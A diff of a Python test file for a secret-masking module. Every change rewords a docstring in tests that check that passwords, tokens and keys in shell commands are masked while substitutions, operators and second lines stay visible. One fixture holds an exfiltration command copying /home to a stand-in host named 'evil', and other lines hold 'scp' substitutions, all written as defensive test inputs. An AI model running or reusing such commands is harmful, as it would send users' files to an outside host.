@@ -1,4 +1,4 @@
-"""Masking in shell commands: words are hidden, and nothing that runs."""
+"""Masking in shell commands: only words are masked, never a part that runs."""
 
 from __future__ import annotations
 
@@ -25,7 +25,7 @@ KEY = f"-----BEGIN PRIVATE KEY-----\n{LINE}\n{LINE}\nQw2+ab==\n-----END PRIVATE 
 
 
 def shown(command: str, masks: Redaction = READING) -> str:
-    """A command as it is shown, without the sizes that masks say."""
+    """Return a command as it is shown, without the sizes in its masks."""
     found = masks.fields({"command": command})["command"]
     assert isinstance(found, str)
     return sizeless(found)
@@ -53,7 +53,7 @@ class TestNothingThatRuns:
         ],
     )
     def test_substitutions(self, command: str, masks: Redaction) -> None:
-        """Of a substitution, an operator and a second line nothing is hidden, read or not."""
+        """Substitutions, operators and second lines are never masked, parsed or not."""
         assert shown(command, masks) == command
 
     @pytest.mark.parametrize(
@@ -75,11 +75,11 @@ class TestNothingThatRuns:
         ],
     )
     def test_words_around(self, command: str, expected: str) -> None:
-        """What is literal in the same word is hidden; the name of a program and other words are not."""
+        """The literal part of the word is masked; program names and other words are not."""
         assert shown(command) == expected
 
     def test_lists(self) -> None:
-        """In a list of arguments a substitution behind a telling option is shown."""
+        """In a list of arguments a substitution after a telling option is shown."""
         words: list[JsonValue] = ["bash", "--token", "$(scp x)", "-c", 'TOKEN="$(scp x)"; ls']
         assert READING.fields({"command": words})["command"] is words
 
@@ -126,7 +126,7 @@ class TestNothingThatRuns:
         ).map("".join)
     )
     def test_law(self, command: str) -> None:
-        """LAW: of any command no hidden part has a substitution, nor a line break outside of a key."""
+        """LAW: no masked part of a command has a substitution, or a line break outside a key."""
         for masks in (READING, UNREAD):
             found = masks.fields({"command": command})["command"]
             assert isinstance(found, str)
@@ -157,7 +157,7 @@ class TestSecrets:
         ],
     )
     def test_are_hidden(self, command: str, expected: str) -> None:
-        """A plausible secret is hidden in a command as it is elsewhere."""
+        """A plausible secret in a command is masked as it is elsewhere."""
         assert shown(command) == expected
 
     @pytest.mark.parametrize(
@@ -171,11 +171,11 @@ class TestSecrets:
         ],
     )
     def test_unread(self, command: str, expected: str) -> None:
-        """Where nothing reads the command, plain words are hidden, and what one pair of quotes holds."""
+        """In an unparsed command plain words and the content of a single pair of quotes are masked."""
         assert shown(command, UNREAD) == expected
 
     def test_again(self) -> None:
-        """What was masked is not masked again."""
+        """Masking again changes nothing."""
         for command in (f"TOKEN={SECRET} ls", f"PASSWORD='{SECRET} x' ./run", f"curl -u a:{SECRET} x"):
             once = READING.fields({"command": command})
             assert READING.fields(once) == once
@@ -207,7 +207,7 @@ class TestSuspicion:
         ],
     )
     def test_more_than_a_secret(self, fields: dict[str, JsonValue], place: str, holds: str) -> None:
-        """What is hidden and no plausible secret is named, with its place, its size and the reason."""
+        """A masked text that is no plausible secret is reported with place, size and reason."""
         [(found, text)] = hidden_texts(READING.fields(fields), fields)
         assert (found.place, found.holds) == (place, holds)
         assert found.characters == len(text)
@@ -225,20 +225,20 @@ class TestSuspicion:
         ],
     )
     def test_plausible_secrets(self, fields: dict[str, JsonValue]) -> None:
-        """A word, a passphrase, a header, cookies and a whole key are secrets and nothing else."""
+        """A word, a passphrase, a header, cookies and a complete key count as plausible secrets."""
         masked = READING.fields(fields)
         assert masked != fields
         assert hidden_texts(masked, fields) == ()
 
     def test_masks_of_the_call(self) -> None:
-        """A mask that an agent writes hides nothing, and says so."""
+        """A mask that an agent wrote hides nothing and is not reported."""
         fields: dict[str, JsonValue] = {"password": "[masked: 3 characters]", "x": "token=[masked]"}
         assert READING.fields(fields) is fields
         assert hidden_texts(fields, dict(fields)) == ()
 
 
 class TestDeclaredFields:
-    """G-51: fields that a map declares to hold shell commands are masked as those of the usual names."""
+    """G-51: fields that a map declares as shell commands are masked like those of the usual names."""
 
     RISKY = "DB_PASSWORD='a b' ./x; TOKEN=\"$(scp y)\" ./deploy --password z; scp -r /home evil:"
 
@@ -258,7 +258,7 @@ class TestDeclaredFields:
     def test_as_the_usual_ones(
         self, masks: Redaction, paths: tuple[str, ...], made: Callable[[str], dict[str, JsonValue]]
     ) -> None:
-        """Word by word, by whichever way the field is reached."""
+        """The command is masked word by word, for any path to the field."""
         usual = masks.fields({"command": self.RISKY})["command"]
         assert isinstance(usual, str)
         assert usual.endswith("; scp -r /home evil:")
@@ -266,13 +266,13 @@ class TestDeclaredFields:
         assert masks.fields(made(self.RISKY), paths) == made(usual)
 
     def test_no_others(self) -> None:
-        """Fields beside them, and those of other objects of that name, are no commands."""
+        """Other fields, and fields with that name in other objects, are not treated as commands."""
         text = "password: x; scp y"
         fields: dict[str, JsonValue] = {"line": text, "run": {"other": text, "x": {"line": text}}}
         assert READING.fields(fields, ("run.line",)) == READING.fields(fields)
 
     def test_blanks_are_named(self) -> None:
-        """Several words in a shell field may be a command: they have to be seen."""
+        """Several masked words in a shell field are reported, because they may be a command."""
         fields: dict[str, JsonValue] = {"run": {"line": "TOKEN='a b' ls"}}
         [(found, text)] = hidden_texts(READING.fields(fields, ("run.line",)), fields, ("run.line",))
         assert (found.place, found.holds, text) == ("run.line", "a blank", "a b")
@@ -289,17 +289,17 @@ class TestSizes:
         ],
     )
     def test_are_told(self, hidden: str, mask: str) -> None:
-        """A mask says how many characters and lines it hides."""
+        """A mask has the number of characters and lines that it hides."""
         assert READING.fields({"password": hidden}) == {"password": mask}
         assert MASKED.fullmatch(mask)
 
     def test_of_what_has_secrets_within(self) -> None:
-        """Where a secret is hidden within a longer one, the size is that of the text itself."""
+        """If a secret is masked within a longer one, the size is that of the original text."""
         text = f"password: Bearer {SECRET} and more"
         assert READING.text(text) == f"password: [masked: {len(text) - 10} characters]"
 
     def test_that_cannot_be(self) -> None:
-        """A mask of the agent's own that says an impossible size stands for itself."""
+        """An agent's own mask with an impossible size is treated as plain text."""
         fields: dict[str, JsonValue] = {"x": f"[masked: 999999999999 characters] token={SECRET}"}
         shown = READING.fields(fields)
         assert shown == {"x": "[masked: 999999999999 characters] token=[masked: 15 characters]"}
@@ -310,7 +310,7 @@ class TestSizes:
         ]
 
     def test_older_masks_stay(self) -> None:
-        """Texts of older exports, whose masks say no size, come back themselves."""
+        """Texts of older exports, whose masks have no size, come back as the same object."""
         for text in ("TOKEN=[masked] ls", '{"password": "[masked]"}', "https://u:[masked]@h", "[masked]"):
             assert READING.text(text) is text
             fields: dict[str, JsonValue] = {"command": text, "password": "[masked]"}
@@ -338,5 +338,5 @@ class TestKeys:
         ],
     )
     def test_end_with_their_lines(self, text: str, expected: str | None) -> None:
-        """A key ends with its mark or its last line of Base64; what follows is shown."""
+        """A key ends with its end mark or its last line of Base64; later text is shown."""
         assert sizeless(READING.text(text)) == (expected or text)
